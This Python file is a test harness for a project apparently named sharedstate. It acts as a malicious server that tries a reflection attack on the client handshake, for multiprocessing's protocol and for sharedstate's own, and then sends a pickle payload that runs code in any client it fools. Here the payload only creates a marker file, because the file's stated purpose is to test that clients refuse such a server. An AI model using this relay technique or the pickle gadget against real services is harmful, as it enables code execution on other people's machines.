"""A program that poses as a sharedstate server without knowing the key: an attacker.

It listens where the victim's clients will connect, and tries the best attack it knows
on the handshake: *reflection*. With two victim connections it hands one victim's
challenge to the other and relays the answer back, so that it never needs the key.
Whoever it fools then gets a pickle that creates ``--marker`` when loaded: code run in
the victim's process. It also reports, on its standard output, how many bytes each
connection sent it, so a test can tell that a victim refused before saying anything.

Standard library only, and runnable as another user with the system's Python
(``python3 -c SOURCE ARGS``), so the tests pass its source rather than a path.

``--protocol`` picks the handshake it attacks: ``mp`` (multiprocessing's challenge and
response, which sharedstate spoke before its own) or ``ss1`` (sharedstate's own).
"""

from __future__ import annotations

import argparse
import os
import pickle
import socket
import struct
import threading
from collections.abc import Callable


class _CreatesMarker:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return (open, (self.path, "w"))


def _send(sock: socket.socket, payload: bytes) -> None:
    sock.sendall(struct.pack("!i", len(payload)) + payload)


def _recv(sock: socket.socket, counts: dict[int, int]) -> bytes:
    (size,) = struct.unpack("!i", _exactly(sock, 4, counts))
    return _exactly(sock, size, counts)


def _exactly(sock: socket.socket, size: int, counts: dict[int, int]) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise EOFError
        counts[sock.fileno()] = counts.get(sock.fileno(), 0) + len(chunk)
        data += chunk
    return data


def _payload(marker: str) -> bytes:
    return pickle.dumps(("#RETURN", _CreatesMarker(marker)))


def reflect_mp(
    first: socket.socket, second: socket.socket, marker: str, counts: dict[int, int]
) -> None:
    """multiprocessing's handshake: answer ``first``'s challenge with ``second``'s help."""
    _send(first, b"#CHALLENGE#" + os.urandom(32))
    _recv(first, counts)  # its answer: we don't care
    _send(first, b"#WELCOME#")
    challenge = _recv(first, counts)  # "#CHALLENGE#" + what we must answer
    _send(second, challenge)  # the second victim answers it for us
    answer = _recv(second, counts)
    _send(first, answer)
    if _recv(first, counts) != b"#WELCOME#":
        return
    _recv(first, counts)  # its first request
    _send(first, _payload(marker))


def reflect_ss1(
    first: socket.socket, second: socket.socket, marker: str, counts: dict[int, int]
) -> None:
    """sharedstate's handshake: try the same trick with its messages."""
    nonce = os.urandom(32)
    hello = b"sharedstate-auth-1 hello " + nonce
    _send(first, hello)
    auth = _recv(first, counts)  # b"auth " + client nonce + the client's proof
    _send(second, hello)
    other = _recv(second, counts)
    # The best a reflector has: another client's proof for the same server nonce.
    _send(first, b"welcome " + os.urandom(16) + other[-32:])
    del auth
    _recv(first, counts)  # only a fooled client sends a request
    _send(first, _payload(marker))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--unix")
    parser.add_argument("--tcp")
    parser.add_argument("--make-dir", help="create this directory (0700) before listening")
    parser.add_argument("--marker", required=True)
    parser.add_argument("--protocol", choices=("mp", "ss1"), default="ss1")
    args = parser.parse_args()
    if args.make_dir:
        os.makedirs(args.make_dir, mode=0o700, exist_ok=True)
    if args.unix:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(args.unix)
        os.chmod(args.unix, 0o777)  # let any victim connect
    else:
        host, _, port = args.tcp.rpartition(":")
        listener = socket.socket(socket.AF_INET)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((host, int(port)))
    listener.listen(16)
    print("listening", flush=True)
    reflect = reflect_mp if args.protocol == "mp" else reflect_ss1
    counts: dict[int, int] = {}
    while True:
        first, _ = listener.accept()
        second, _ = listener.accept()
        for sock in (first, second):
            sock.settimeout(10)
        worker = threading.Thread(
            target=_attack, args=(reflect, first, second, args.marker, counts), daemon=True
        )
        worker.start()


def _attack(
    reflect: Callable[[socket.socket, socket.socket, str, dict[int, int]], None],
    first: socket.socket,
    second: socket.socket,
    marker: str,
    counts: dict[int, int],
) -> None:
    try:
        reflect(first, second, marker, counts)
    except (OSError, EOFError, struct.error):
        pass
    finally:
        # Keep each connection open until its victim hangs up, counting what it sends.
        for sock in (first, second):
            try:
                while chunk := sock.recv(4096):
                    counts[sock.fileno()] = counts.get(sock.fileno(), 0) + len(chunk)
            except OSError:
                pass
            print(f"received {counts.get(sock.fileno(), 0)} bytes", flush=True)
            sock.close()


if __name__ == "__main__":
    main()
